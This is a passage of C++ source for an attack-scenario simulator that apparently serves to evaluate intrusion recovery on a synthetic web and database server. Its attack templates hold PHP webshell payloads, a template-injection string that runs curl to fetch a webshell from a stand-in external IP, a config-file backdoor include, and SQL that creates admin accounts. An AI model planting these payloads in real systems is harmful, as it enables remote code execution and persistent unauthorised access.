#include "rewind/simulator.hpp"

#include <algorithm>
#include <deque>
#include <functional>
#include <memory>
#include <queue>
#include <random>
#include <variant>

#include "rewind/json_io.hpp"

namespace rwd {

std::string_view to_string(DbLogMode mode) {
  switch (mode) {
    case DbLogMode::syscall_statement_log: return "syscall_statement_log";
    case DbLogMode::applog_with_client: return "applog_with_client";
    case DbLogMode::both: return "both";
  }
  return "syscall_statement_log";
}

DbLogMode db_log_mode_from_string(std::string_view text) {
  if (text == "syscall_statement_log") return DbLogMode::syscall_statement_log;
  if (text == "applog_with_client") return DbLogMode::applog_with_client;
  if (text == "both") return DbLogMode::both;
  throw Error(ErrorCode::InvalidConfig, "unknown db_log_mode '" + std::string(text) + "'");
}

std::string_view to_string(AttackKind kind) {
  switch (kind) {
    case AttackKind::rce_webshell: return "rce_webshell";
    case AttackKind::sqli_write: return "sqli_write";
    case AttackKind::multi_stage: return "multi_stage";
  }
  return "rce_webshell";
}

AttackKind attack_kind_from_string(std::string_view text) {
  if (text == "rce_webshell") return AttackKind::rce_webshell;
  if (text == "sqli_write") return AttackKind::sqli_write;
  if (text == "multi_stage") return AttackKind::multi_stage;
  throw Error(ErrorCode::InvalidConfig, "unknown attack kind '" + std::string(text) + "'");
}

namespace {

constexpr Nanos kStart = 1'000'000'000;
// Requests between the two halves of a multi_stage attack.
constexpr int kStageGap = 10;
constexpr int kWebPid = 1000;
constexpr int kDbPid = 2000;
constexpr int kDbWorkerTid0 = 337270;
constexpr int kPoolPort0 = 50556;
constexpr int kPoolFd0 = 10;
constexpr int kDbStatementFd = 4;
constexpr int kListenFd = 3;
constexpr int kSlotSize = 32;
constexpr int kRecordSlots = 64;
constexpr Nanos kNetDelay = 30'000;
constexpr const char* kActivityLog = "/data/shared/activity.log";
constexpr const char* kRecords = "/data/shared/records.dat";

[[noreturn]] void invalid(const std::string& why) { throw Error(ErrorCode::InvalidConfig, why); }

}  // namespace

void ScenarioConfig::validate() const {
  if (concurrency < 1) invalid("concurrency must be >= 1");
  if (request_count < 0) invalid("request_count must be >= 0");
  if (pool_size < 1) invalid("pool_size must be >= 1");
  auto prob = [](double p, const char* name) {
    if (!(p >= 0.0 && p <= 1.0)) invalid(std::string(name) + " must lie in [0, 1]");
  };
  prob(event_loss_prob, "event_loss_prob");
  prob(split_write_prob, "split_write_prob");
  prob(multi_conn_prob, "multi_conn_prob");
  if (clock_skew_ns < 0) invalid("clock_skew_ns must be >= 0");
  if (db_snapshot_interval_ns <= 0) invalid("db_snapshot_interval_ns must be > 0");
  if (backup_interval_ns <= 0) invalid("backup_interval_ns must be > 0");
  if (think_time_ns < 0) invalid("think_time_ns must be >= 0");
  for (double w : {mix.page_view, mix.upload, mix.db_crud, mix.mixed}) {
    if (!(w >= 0.0)) invalid("template weights must be >= 0");
  }
  if (mix.page_view + mix.upload + mix.db_crud + mix.mixed <= 0.0) invalid("template weights sum to zero");
  std::set<int> taken;
  for (const AttackSpec& a : attacks) {
    std::vector<int> slots = {a.at_request_index};
    if (a.kind == AttackKind::multi_stage) slots.push_back(a.at_request_index + kStageGap);
    for (int idx : slots) {
      if (idx < 0 || idx >= request_count) {
        invalid("attack at request index " + std::to_string(idx) + " outside [0, request_count)");
      }
      if (!taken.insert(idx).second) invalid("two attacks claim request index " + std::to_string(idx));
    }
  }
}

json ScenarioConfig::to_json() const {
  json attacks_j = json::array();
  for (const auto& a : attacks) {
    attacks_j.push_back({{"kind", std::string(to_string(a.kind))}, {"at_request_index", a.at_request_index}});
  }
  return {{"seed", seed},
          {"concurrency", concurrency},
          {"request_count", request_count},
          {"server_model", std::string(to_string(server_model))},
          {"pool_size", pool_size},
          {"db_log_mode", std::string(to_string(db_log_mode))},
          {"attacks", attacks_j},
          {"event_loss_prob", event_loss_prob},
          {"clock_skew_ns", clock_skew_ns},
          {"split_write_prob", split_write_prob},
          {"multi_conn_prob", multi_conn_prob},
          {"db_snapshot_interval_ns", db_snapshot_interval_ns},
          {"backup_interval_ns", backup_interval_ns},
          {"think_time_ns", think_time_ns},
          {"template_mix",
           {{"page_view", mix.page_view}, {"upload", mix.upload}, {"db_crud", mix.db_crud}, {"mixed", mix.mixed}}}};
}

namespace {

void check_keys(const json& j, std::initializer_list<std::string_view> allowed, const std::string& where) {
  if (!j.is_object()) invalid(where + " must be an object");
  for (const auto& [key, _] : j.items()) {
    if (std::find(allowed.begin(), allowed.end(), key) == allowed.end()) invalid("unknown key '" + key + "' in " + where);
  }
}

template <typename T>
void read_int(const json& j, const char* key, T& out) {
  if (!j.contains(key)) return;
  const json& v = j.at(key);
  if (!v.is_number_integer()) invalid(std::string(key) + " must be an integer");
  if constexpr (std::is_unsigned_v<T>) {
    if (!v.is_number_unsigned()) invalid(std::string(key) + " must be non-negative");
  }
  out = v.get<T>();
}

void read_double(const json& j, const char* key, double& out) {
  if (!j.contains(key)) return;
  if (!j.at(key).is_number()) invalid(std::string(key) + " must be a number");
  out = j.at(key).get<double>();
}

std::string read_string(const json& j, const char* key) {
  if (!j.at(key).is_string()) invalid(std::string(key) + " must be a string");
  return j.at(key).get<std::string>();
}

}  // namespace

ScenarioConfig ScenarioConfig::from_json(const json& j) {
  check_keys(j,
             {"seed", "concurrency", "request_count", "server_model", "pool_size", "db_log_mode", "attacks",
              "event_loss_prob", "clock_skew_ns", "split_write_prob", "multi_conn_prob", "db_snapshot_interval_ns",
              "backup_interval_ns", "think_time_ns", "template_mix"},
             "scenario config");
  ScenarioConfig c;
  read_int(j, "seed", c.seed);
  read_int(j, "concurrency", c.concurrency);
  read_int(j, "request_count", c.request_count);
  read_int(j, "pool_size", c.pool_size);
  read_int(j, "clock_skew_ns", c.clock_skew_ns);
  read_int(j, "db_snapshot_interval_ns", c.db_snapshot_interval_ns);
  read_int(j, "backup_interval_ns", c.backup_interval_ns);
  read_int(j, "think_time_ns", c.think_time_ns);
  read_double(j, "event_loss_prob", c.event_loss_prob);
  read_double(j, "split_write_prob", c.split_write_prob);
  read_double(j, "multi_conn_prob", c.multi_conn_prob);
  if (j.contains("server_model")) {
    try {
      c.server_model = server_model_from_string(read_string(j, "server_model"));
    } catch (const Error& e) {
      invalid(e.what());
    }
  }
  if (j.contains("db_log_mode")) c.db_log_mode = db_log_mode_from_string(read_string(j, "db_log_mode"));
  if (j.contains("attacks")) {
    if (!j.at("attacks").is_array()) invalid("attacks must be an array");
    for (const json& a : j.at("attacks")) {
      check_keys(a, {"kind", "at_request_index"}, "attack spec");
      if (!a.contains("kind") || !a.contains("at_request_index")) invalid("attack spec needs kind and at_request_index");
      AttackSpec spec;
      spec.kind = attack_kind_from_string(read_string(a, "kind"));
      read_int(a, "at_request_index", spec.at_request_index);
      c.attacks.push_back(spec);
    }
  }
  if (j.contains("template_mix")) {
    const json& m = j.at("template_mix");
    check_keys(m, {"page_view", "upload", "db_crud", "mixed"}, "template_mix");
    read_double(m, "page_view", c.mix.page_view);
    read_double(m, "upload", c.mix.upload);
    read_double(m, "db_crud", c.mix.db_crud);
    read_double(m, "mixed", c.mix.mixed);
  }
  c.validate();
  return c;
}

// ---- ground truth ----------------------------------------------------------

OperationSets GroundTruth::db_ops() const {
  OperationSets out;
  for (const auto& id : request_ids) out[id];
  for (const auto& l : db_log) {
    if (!l.request.empty()) out[l.request].insert(l.op.id());
  }
  return out;
}

OperationSets GroundTruth::file_ops() const {
  OperationSets out;
  for (const auto& id : request_ids) out[id];
  for (const auto& l : file_log) {
    if (!l.request.empty()) out[l.request].insert(l.op.id());
  }
  return out;
}

OperationSets GroundTruth::expected_restored() const {
  OperationSets out = db_ops();
  for (auto& [request, ops] : file_ops()) out[request].insert(ops.begin(), ops.end());
  for (const auto& m : malicious) out[m].clear();
  return out;
}

json GroundTruth::to_json() const {
  json events_j = json::object();
  for (const auto& [ref, label] : events) {
    events_j[ref.label()] = {{"request", label.request}, {"descendant", label.descendant}};
  }
  json db_j = json::array();
  for (const auto& l : db_log) db_j.push_back({{"op", rwd::to_json(l.op)}, {"request", l.request}});
  json file_j = json::array();
  for (const auto& l : file_log) file_j.push_back({{"op", rwd::to_json(l.op)}, {"request", l.request}});
  return {{"request_ids", request_ids},
          {"malicious", malicious},
          {"events", events_j},
          {"db_log", db_j},
          {"file_log", file_j},
          {"reference_db", reference_db.to_json()},
          {"benign_db", benign_db.to_json()},
          {"reference_tree", reference_tree.to_json()},
          {"benign_tree", benign_tree.to_json()}};
}

GroundTruth GroundTruth::from_json(const json& j) {
  GroundTruth g;
  g.request_ids = j.at("request_ids").get<std::vector<std::string>>();
  g.malicious = j.at("malicious").get<std::set<std::string>>();
  for (const auto& [key, label] : j.at("events").items()) {
    auto colon = key.rfind(':');
    if (colon == std::string::npos) throw Error(ErrorCode::MalformedRecord, "bad event label key " + key);
    EventRef ref{key.substr(0, colon), std::stoull(key.substr(colon + 1))};
    g.events[ref] = {label.at("request").get<std::string>(), label.at("descendant").get<bool>()};
  }
  for (const auto& l : j.at("db_log")) {
    g.db_log.push_back({db_operation_from_json(l.at("op")), l.at("request").get<std::string>()});
  }
  for (const auto& l : j.at("file_log")) {
    g.file_log.push_back({file_operation_from_json(l.at("op")), l.at("request").get<std::string>()});
  }
  g.reference_db = DBState::from_json(j.at("reference_db"));
  g.benign_db = DBState::from_json(j.at("benign_db"));
  g.reference_tree = FileTree::from_json(j.at("reference_tree"));
  g.benign_tree = FileTree::from_json(j.at("benign_tree"));
  return g;
}

// ---- simulation ------------------------------------------------------------

namespace {

struct SimStatement {
  Verb verb = Verb::insert;
  std::string table;
  std::string key;
  json fields = json::object();

  std::string text() const {
    switch (verb) {
      case Verb::insert: return "INS " + table + " " + key + " " + canonical_dump(fields);
      case Verb::update: return "UPD " + table + " " + key + " " + canonical_dump(fields);
      case Verb::remove: return "DEL " + table + " " + key;
    }
    return {};
  }
};

struct ReadFile {
  std::string path;
};
struct CreateFile {
  std::string path;
  std::vector<std::string> chunks;
};
struct AppendFile {
  std::string path;
  std::string data;
};
struct OverwriteAt {
  std::string path;
  std::int64_t offset = 0;
  std::string data;
};
struct RenameFile {
  std::string from;
  std::string to;
};
struct RemoveFile {
  std::string path;
};
struct Query {
  std::vector<SimStatement> statements;  // empty: read-only
  int conn_slot = 0;
};

struct ProcStep;
using ProcScript = std::vector<ProcStep>;

struct Exec {
  std::string path;
};
struct ForkChild {
  std::shared_ptr<ProcScript> child;
  bool wait = false;
};
struct Fetch {
  int local_port = 0;
  std::string body;
};
struct Spawn {
  std::shared_ptr<ProcScript> script;
  bool wait = false;
};

struct ProcStep {
  std::variant<Exec, ForkChild, Fetch, CreateFile, AppendFile, OverwriteAt> op;
};

using Step = std::variant<ReadFile, CreateFile, AppendFile, OverwriteAt, RenameFile, RemoveFile, Query, Spawn>;

struct Actor {
  int pid = 0;
  int tid = 0;
  std::string request;
  bool descendant = false;
};

struct Request {
  std::string id;
  int index = 0;
  int client = 0;
  std::vector<Step> steps;
  std::size_t next = 0;
  int tid = 0;
  int client_fd = -1;
  NetworkTuple client_tuple;
  int conns_needed = 1;
  std::vector<int> conns;
  bool begun = false;
};

struct Conn {
  bool busy = false;
  Nanos since = 0;
  std::vector<std::pair<Nanos, Nanos>> usage;
  int web_fd = 0;
  int db_fd = 0;
  NetworkTuple tuple;
};

struct ClientState {
  std::string ip;
  int next_port = 40000;
  bool has_session = false;
  std::vector<std::string> uploads;
};

enum class EffectKind { create, write, remove, rename };

struct FileEffect {
  Nanos ts = 0;
  std::string request;
  EffectKind kind = EffectKind::write;
  std::string path;
  std::string to;
  std::int64_t offset = 0;
  std::string data;
  bool truncate = false;
};

struct DbEffect {
  Nanos ts = 0;
  std::string request;
  SimStatement statement;
};

using Tables = std::map<std::string, std::map<std::string, json>>;

// Reference interpreters: operate on the structured effects directly.
void apply_effect(Tables& t, const SimStatement& s) {
  switch (s.verb) {
    case Verb::insert: t[s.table][s.key] = s.fields; break;
    case Verb::update: {
      auto table = t.find(s.table);
      if (table == t.end()) return;
      auto row = table->second.find(s.key);
      if (row == table->second.end()) return;
      for (const auto& [k, v] : s.fields.items()) row->second[k] = v;
      break;
    }
    case Verb::remove: {
      auto table = t.find(s.table);
      if (table == t.end()) return;
      table->second.erase(s.key);
      if (table->second.empty()) t.erase(table);
      break;
    }
  }
}

void apply_effect(std::map<std::string, std::string>& files, const FileEffect& e) {
  switch (e.kind) {
    case EffectKind::create:
      if (e.truncate || !files.contains(e.path)) files[e.path].clear();
      break;
    case EffectKind::write: {
      std::string& content = files[e.path];
      auto end = static_cast<std::size_t>(e.offset) + e.data.size();
      if (content.size() < end) content.resize(end, '\0');
      std::copy(e.data.begin(), e.data.end(), content.begin() + e.offset);
      break;
    }
    case EffectKind::remove: files.erase(e.path); break;
    case EffectKind::rename: {
      auto node = files.extract(e.path);
      if (node) {
        node.key() = e.to;
        files.insert_or_assign(e.to, std::move(node.mapped()));
      }
      break;
    }
  }
}

std::string pad_id(int index) {
  std::string digits = std::to_string(index);
  return "req-" + std::string(digits.size() < 5 ? 5 - digits.size() : 0, '0') + digits;
}

class Simulator {
 public:
  explicit Simulator(const ScenarioConfig& config) : cfg_(config), rng_(config.seed) {}

  Scenario run();

 private:
  // ---- engine
  void at(Nanos t, std::function<void()> fn) { queue_.push({t, order_++, std::move(fn)}); }
  Nanos tick() { return clock_ = std::max(clock_ + 1, now_); }
  Nanos gap(Nanos lo, Nanos hi) { return std::uniform_int_distribution<Nanos>(lo, hi)(rng_); }
  bool chance(double p) { return p > 0.0 && std::bernoulli_distribution(p)(rng_); }
  int uniform(int lo, int hi) { return std::uniform_int_distribution<int>(lo, hi)(rng_); }

  Event& emit(EventLog& log, std::uint64_t& seq, std::string_view host, Nanos ts, int pid, int tid,
              std::variant<SyscallPayload, DelimiterPayload> payload, const std::string& request, bool descendant) {
    Event ev;
    ev.seq = ++seq;
    ev.ts = ts;
    ev.host = std::string(host);
    ev.pid = pid;
    ev.tid = tid;
    ev.payload = std::move(payload);
    if (!request.empty()) truth_.events[ev.ref()] = {request, descendant};
    log.events.push_back(std::move(ev));
    return log.events.back();
  }
  Event& web(const Actor& a, Syscall name, SyscallArgs args) {
    return emit(web_, web_seq_, kWebHost, tick(), a.pid, a.tid, SyscallPayload{name, std::move(args)}, a.request,
                a.descendant);
  }
  Event& db(int tid, Syscall name, SyscallArgs args, const std::string& request) {
    return emit(db_, db_seq_, kDbHost, tick() + cfg_.clock_skew_ns, kDbPid, tid, SyscallPayload{name, std::move(args)},
                request, false);
  }
  void delimiter(const Request& r, Marker m) {
    emit(web_, web_seq_, kWebHost, tick(), kWebPid, r.tid, DelimiterPayload{r.id, m}, r.id, false);
  }

  int alloc_fd(int pid) {
    auto& used = fds_[pid];
    int fd = 20;
    while (used.contains(fd)) ++fd;
    used.insert(fd);
    return fd;
  }
  void free_fd(int pid, int fd) { fds_[pid].erase(fd); }

  // ---- setup
  void init_state();
  void start_servers();

  // ---- file primitives, shared by request steps and spawned processes
  void do_read(const Actor& a, const std::string& path);
  void do_create(const Actor& a, const CreateFile& c);
  void do_append(const Actor& a, const AppendFile& c);
  void do_overwrite(const Actor& a, const OverwriteAt& c);
  void do_rename(const Actor& a, const RenameFile& c);
  void do_remove(const Actor& a, const RemoveFile& c);
  void do_write(const Actor& a, int fd, const std::string& path, std::int64_t offset, const std::string& data,
                FileOperation* fold_into);
  void file_effect(FileEffect e) {
    apply_effect(files_, e);
    file_effects_.push_back(std::move(e));
  }
  void record_file_op(const Actor& a, FileOperation op) { truth_.file_log.push_back({std::move(op), a.request}); }

  // ---- requests
  void client_loop(int client);
  void start_request(Request* r);
  void run_step(Request* r);
  void finish(Request* r);
  void open_burst(Request* r);
  void close_burst(Request* r, bool last);
  bool try_acquire(Request* r);
  void release(Request* r);
  void serve_waiters();
  void db_receive(Request* r, int conn, std::shared_ptr<std::vector<SimStatement>> stmts);
  void db_statement(Request* r, int conn, std::shared_ptr<std::vector<SimStatement>> stmts, std::size_t i);
  void db_complete(Request* r, int conn, const SimStatement& s, Nanos ts);
  void db_reply(Request* r, int conn);

  // ---- processes
  void run_proc(Actor a, std::shared_ptr<ProcScript> script, std::size_t i, std::function<void()> on_exit);

  // ---- templates
  std::vector<Step> build_steps(Request& r);
  std::vector<SimStatement> crud_statements(Request& r, int n);
  SimStatement session_touch(Request& r);
  std::string filler(int n);

  // ---- post-processing
  void finalize(Scenario& s);

  struct Pending {
    Nanos t;
    std::uint64_t order;
    std::function<void()> fn;
    bool operator>(const Pending& o) const { return std::tie(t, order) > std::tie(o.t, o.order); }
  };

  ScenarioConfig cfg_;
  std::mt19937_64 rng_;
  std::priority_queue<Pending, std::vector<Pending>, std::greater<>> queue_;
  std::uint64_t order_ = 0;
  Nanos now_ = kStart;
  Nanos clock_ = kStart;

  EventLog web_;
  EventLog db_;
  std::uint64_t web_seq_ = 0;
  std::uint64_t db_seq_ = 0;
  AppLog app_log_;
  WriteLog write_log_;
  std::uint64_t write_seq_ = 0;
  GroundTruth truth_;

  Classification classes_ = Classification::defaults();
  std::map<std::string, std::string> files_;
  std::map<std::string, std::string> initial_files_;
  Tables tables_;
  Tables initial_tables_;
  std::vector<FileEffect> file_effects_;
  std::vector<DbEffect> db_effects_;
  // Posts whose INS has executed; UPD/DEL targets are drawn from here.
  std::vector<std::string> post_keys_;
  std::map<std::string, std::size_t> post_slot_;
  std::int64_t statement_log_size_ = 0;

  std::map<int, std::set<int>> fds_;
  std::vector<Conn> conns_;
  std::deque<Request*> waiters_;
  std::set<int> free_threads_;
  std::vector<ClientState> clients_;
  std::vector<std::unique_ptr<Request>> requests_;
  std::map<int, AttackSpec> attack_at_;
  std::map<int, int> stage_two_at_;  // request index -> attack number
  std::map<int, int> attack_number_;
  int next_index_ = 0;
  int next_pid_ = 5000;
};

std::string Simulator::filler(int n) {
  static constexpr std::string_view kAlphabet = "abcdefghijklmnopqrstuvwxyz0123456789";
  std::string s(static_cast<std::size_t>(n), 'x');
  for (char& c : s) c = kAlphabet[static_cast<std::size_t>(uniform(0, static_cast<int>(kAlphabet.size()) - 1))];
  return s;
}

void Simulator::init_state() {
  for (int i = 0; i < 50; ++i) {
    tables_["users"]["u_" + std::to_string(i)] = {{"name", "user" + std::to_string(i)}, {"role", "member"}};
  }
  for (int i = 0; i < 200; ++i) {
    std::string key = "p_init_" + std::to_string(i);
    tables_["posts"][key] = {{"author", "u_" + std::to_string(i % 50)}, {"body", filler(24)}};
    post_slot_[key] = post_keys_.size();
    post_keys_.push_back(key);
  }
  for (int i = 0; i < 10; ++i) {
    tables_["templates"]["t_" + std::to_string(i)] = {{"body", "<div>" + filler(16) + "</div>"}};
  }
  tables_["config"]["site"] = {{"theme", "default"}, {"active_template", "t_0"}};
  initial_tables_ = tables_;

  files_["/app/config.php"] = "<?php $db = 'mysql:host=172.18.0.2;port=3306'; ?>\n";
  files_["/app/index.php"] = "<?php require 'config.php'; render(); ?>\n";
  files_["/bin/sh"] = "ELF-sh";
  files_["/usr/bin/curl"] = "ELF-curl";
  files_["/usr/sbin/php-fpm"] = "ELF-php-fpm";
  files_["/etc/passwd"] = "root:x:0:0:root:/root:/bin/sh\nwww-data:x:33:33::/var/www:/bin/false\n";
  files_["/var/www/html/index.php"] = "<?php include '/app/index.php'; ?>\n";
  files_[kActivityLog] = "boot\n";
  files_[kRecords] = std::string(kSlotSize * kRecordSlots, '.');
  for (int i = 0; i < 5; ++i) files_["/data/uploads/seed_" + std::to_string(i) + ".txt"] = filler(40);
  initial_files_ = files_;
}

void Simulator::start_servers() {
  Actor web_main{kWebPid, kWebPid, "", false};
  now_ = kStart;
  web(web_main, Syscall::execve, {.path = "/usr/sbin/php-fpm"});
  web(web_main, Syscall::socket, {.fd = kListenFd});
  fds_[kWebPid] = {kListenFd};
  db(kDbPid, Syscall::execve, {.path = "/usr/sbin/mysqld"}, "");
  db(kDbPid, Syscall::openat,
     {.fd = kDbStatementFd, .path = std::string(kDefaultStatementLog), .flags = kOpenWriteOnly | kOpenAppend | kOpenCreate},
     "");
  db(kDbPid, Syscall::socket, {.fd = kListenFd}, "");

  conns_.resize(static_cast<std::size_t>(cfg_.pool_size));
  for (int i = 0; i < cfg_.pool_size; ++i) {
    Conn& c = conns_[static_cast<std::size_t>(i)];
    c.web_fd = kPoolFd0 + i;
    c.db_fd = kPoolFd0 + i;
    c.tuple = {std::string(kWebIp), kPoolPort0 + i, std::string(kDbIp), kDbPort};
    fds_[kWebPid].insert(c.web_fd);
    web(web_main, Syscall::socket, {.fd = c.web_fd});
    web(web_main, Syscall::connect, {.fd = c.web_fd, .endpoint = c.tuple});
    db(kDbPid, Syscall::accept, {.fd = c.db_fd, .endpoint = c.tuple}, "");
    db(kDbPid, Syscall::clone, {.child_pid = kDbPid, .child_tid = kDbWorkerTid0 + i}, "");
  }

  int threads = cfg_.server_model == ServerModel::coroutine ? 2 : cfg_.concurrency;
  for (int k = 0; k < threads; ++k) {
    web(web_main, Syscall::clone, {.child_pid = kWebPid, .child_tid = kWebPid + 1 + k});
    free_threads_.insert(kWebPid + 1 + k);
  }
}

// ---- file primitives -------------------------------------------------------

void Simulator::do_read(const Actor& a, const std::string& path) {
  int fd = alloc_fd(a.pid);
  web(a, Syscall::openat, {.fd = fd, .path = path, .flags = 0});
  web(a, Syscall::read, {.fd = fd, .offset = 0});
  web(a, Syscall::close, {.fd = fd});
  free_fd(a.pid, fd);
}

void Simulator::do_write(const Actor& a, int fd, const std::string& path, std::int64_t offset, const std::string& data,
                         FileOperation* fold_into) {
  Event& ev = web(a, Syscall::write, {.fd = fd, .offset = offset, .data = data});
  PayloadRef payload{offset, data, ev.ts, ev.ref()};
  file_effect({ev.ts, a.request, EffectKind::write, path, "", offset, data, false});
  if (classes_.classify(path) == DirClass::data) {
    write_log_.records.push_back({++write_seq_, ev.ts, a.pid, a.tid, path, offset, data});
  }
  if (fold_into) {
    fold_into->payload = std::move(payload);
    return;
  }
  FileOperation op;
  op.path = path;
  op.kind = FileOpKind::write;
  op.ts = ev.ts;
  op.actor = ev.thread();
  op.payload = std::move(payload);
  op.source = ev.ref();
  record_file_op(a, std::move(op));
}

void Simulator::do_create(const Actor& a, const CreateFile& c) {
  int fd = alloc_fd(a.pid);
  int flags = kOpenCreate | kOpenWriteOnly | kOpenTruncate;
  Event& open = web(a, Syscall::openat, {.fd = fd, .path = c.path, .flags = flags});
  FileOperation op;
  op.path = c.path;
  op.kind = FileOpKind::create;
  op.ts = open.ts;
  op.actor = open.thread();
  op.truncate = true;
  op.source = open.ref();
  file_effect({open.ts, a.request, EffectKind::create, c.path, "", 0, "", true});
  std::int64_t offset = 0;
  for (std::size_t i = 0; i < c.chunks.size(); ++i) {
    do_write(a, fd, c.path, offset, c.chunks[i], i == 0 ? &op : nullptr);
    offset += static_cast<std::int64_t>(c.chunks[i].size());
    // The create must precede its later writes in the ground-truth log.
    if (i == 0) record_file_op(a, op);
  }
  if (c.chunks.empty()) record_file_op(a, op);
  web(a, Syscall::close, {.fd = fd});
  free_fd(a.pid, fd);
}

void Simulator::do_append(const Actor& a, const AppendFile& c) {
  int fd = alloc_fd(a.pid);
  web(a, Syscall::openat, {.fd = fd, .path = c.path, .flags = kOpenWriteOnly | kOpenAppend});
  auto offset = static_cast<std::int64_t>(files_.at(c.path).size());
  do_write(a, fd, c.path, offset, c.data, nullptr);
  web(a, Syscall::close, {.fd = fd});
  free_fd(a.pid, fd);
}

void Simulator::do_overwrite(const Actor& a, const OverwriteAt& c) {
  int fd = alloc_fd(a.pid);
  web(a, Syscall::openat, {.fd = fd, .path = c.path, .flags = kOpenWriteOnly});
  do_write(a, fd, c.path, c.offset, c.data, nullptr);
  web(a, Syscall::close, {.fd = fd});
  free_fd(a.pid, fd);
}

void Simulator::do_rename(const Actor& a, const RenameFile& c) {
  Event& ev = web(a, Syscall::rename, {.old_path = c.from, .new_path = c.to});
  file_effect({ev.ts, a.request, EffectKind::rename, c.from, c.to, 0, "", false});
  FileOperation op;
  op.path = c.from;
  op.kind = FileOpKind::rename;
  op.ts = ev.ts;
  op.actor = ev.thread();
  op.rename_to = c.to;
  op.source = ev.ref();
  record_file_op(a, std::move(op));
}

void Simulator::do_remove(const Actor& a, const RemoveFile& c) {
  Event& ev = web(a, Syscall::unlink, {.path = c.path});
  file_effect({ev.ts, a.request, EffectKind::remove, c.path, "", 0, "", false});
  FileOperation op;
  op.path = c.path;
  op.kind = FileOpKind::remove;
  op.ts = ev.ts;
  op.actor = ev.thread();
  op.source = ev.ref();
  record_file_op(a, std::move(op));
}

// ---- templates -------------------------------------------------------------

SimStatement Simulator::session_touch(Request& r) {
  ClientState& c = clients_[static_cast<std::size_t>(r.client)];
  SimStatement s;
  s.table = "sessions";
  s.key = "s_" + std::to_string(r.client);
  s.fields = {{"last_request", r.id}};
  if (c.has_session) {
    s.verb = Verb::update;
  } else {
    s.verb = Verb::insert;
    s.fields["client"] = c.ip;
    c.has_session = true;
  }
  return s;
}

std::vector<SimStatement> Simulator::crud_statements(Request& r, int n) {
  std::vector<SimStatement> out;
  std::vector<std::string> own;
  for (int k = 0; k < n; ++k) {
    SimStatement s;
    s.table = "posts";
    int roll = uniform(0, 9);
    if (roll < 4 || post_keys_.empty()) {
      s.verb = Verb::insert;
      s.key = "p_" + std::to_string(r.index) + "_" + std::to_string(k);
      s.fields = {{"author", "u_" + std::to_string(r.client % 50)}, {"body", filler(uniform(8, 40))}};
      own.push_back(s.key);
    } else if (roll < 9) {
      s.verb = Verb::update;
      s.key = post_keys_[static_cast<std::size_t>(uniform(0, static_cast<int>(post_keys_.size()) - 1))];
      s.fields = {{"body", filler(uniform(8, 40))}, {"edited_by", r.id}};
    } else {
      s.verb = Verb::remove;
      s.key = own.empty() ? post_keys_[static_cast<std::size_t>(uniform(0, static_cast<int>(post_keys_.size()) - 1))]
                          : own.back();
    }
    out.push_back(std::move(s));
  }
  return out;
}

std::vector<Step> Simulator::build_steps(Request& r) {
  std::vector<Step> steps;
  ClientState& client = clients_[static_cast<std::size_t>(r.client)];
  auto activity = [&] { return AppendFile{kActivityLog, r.id + " " + filler(uniform(12, 48)) + "\n"}; };
  auto split_queries = [&](std::vector<SimStatement> stmts, int parts) {
    std::size_t per = (stmts.size() + static_cast<std::size_t>(parts) - 1) / static_cast<std::size_t>(parts);
    for (std::size_t i = 0; i < stmts.size(); i += per) {
      Query q;
      q.statements.assign(stmts.begin() + static_cast<std::ptrdiff_t>(i),
                          stmts.begin() + static_cast<std::ptrdiff_t>(std::min(stmts.size(), i + per)));
      q.conn_slot = static_cast<int>(i / per) % r.conns_needed;
      steps.push_back(std::move(q));
    }
  };

  if (auto it = stage_two_at_.find(r.index); it != stage_two_at_.end()) {
    // Rendering the poisoned template runs the injected command synchronously.
    steps.push_back(ReadFile{"/var/www/html/index.php"});
    steps.push_back(Query{});
    auto curl = std::make_shared<ProcScript>(ProcScript{
        {Exec{"/usr/bin/curl"}},
        {Fetch{33000 + it->second, "<?php @eval($_POST['x']); ?>\n"}},
        {CreateFile{"/tmp/Webshell", {"<?php @eval($_POST['x']); ?>\n"}}}});
    auto sh = std::make_shared<ProcScript>(ProcScript{{Exec{"/bin/sh"}}, {ForkChild{curl, true}}});
    steps.push_back(Spawn{sh, true});
    return steps;
  }

  if (auto it = attack_at_.find(r.index); it != attack_at_.end()) {
    int n = attack_number_.at(r.index);
    switch (it->second.kind) {
      case AttackKind::rce_webshell: {
        std::string shell = "/tmp/shell_" + std::to_string(n) + ".php";
        auto curl = std::make_shared<ProcScript>(ProcScript{
            {Exec{"/usr/bin/curl"}},
            {Fetch{33000 + n, "<?php system($_GET['c']); ?>\n"}},
            {CreateFile{shell, {"<?php system($_GET['c']); ?>\n"}}}});
        auto sh = std::make_shared<ProcScript>(ProcScript{
            {Exec{"/bin/sh"}},
            {ForkChild{curl, true}},
            {OverwriteAt{kRecords, static_cast<std::int64_t>((7 * n + 3) % kRecordSlots) * kSlotSize,
                         "PWNED-" + std::string(kSlotSize - 6, '!')}},
            {AppendFile{"/app/config.php", "<?php include '" + shell + "'; ?>\n"}}});
        steps.push_back(ReadFile{"/var/www/html/index.php"});
        steps.push_back(Query{});
        steps.push_back(Spawn{sh, false});
        return steps;
      }
      case AttackKind::sqli_write: {
        auto stmts = crud_statements(r, uniform(3, 6));
        SimStatement escalate{Verb::update, "users", "u_" + std::to_string(n % 50), {{"role", "admin"}}};
        SimStatement backdoor{Verb::insert, "users", "evil_" + std::to_string(n), {{"name", "evil"}, {"role", "admin"}}};
        stmts.insert(stmts.begin() + static_cast<std::ptrdiff_t>(stmts.size() / 2), escalate);
        stmts.push_back(backdoor);
        steps.push_back(Query{});
        split_queries(std::move(stmts), 2);
        return steps;
      }
      case AttackKind::multi_stage: {
        // Template injection through the admin editor: exactly two writes.
        steps.push_back(Query{});
        Query q;
        q.statements.push_back({Verb::update, "templates", "t_3",
                                {{"body", "{function name='rce(){}; system(\"curl -o /tmp/Webshell http://" +
                                              std::string(kExternalIp) + "/x\"); function '}{/function}"}}});
        q.statements.push_back({Verb::update, "config", "site", {{"active_template", "t_3"}}});
        steps.push_back(std::move(q));
        return steps;
      }
    }
  }

  double total = cfg_.mix.page_view + cfg_.mix.upload + cfg_.mix.db_crud + cfg_.mix.mixed;
  double roll = std::uniform_real_distribution<double>(0.0, total)(rng_);
  if (roll < cfg_.mix.page_view) {
    steps.push_back(ReadFile{"/var/www/html/index.php"});
    steps.push_back(Query{});
    steps.push_back(Query{{session_touch(r)}});
    steps.push_back(activity());
  } else if (roll < cfg_.mix.page_view + cfg_.mix.upload) {
    std::string path = "/data/uploads/c" + std::to_string(r.client) + "_" + r.id + ".txt";
    CreateFile c{path, {}};
    int chunks = uniform(1, 6);
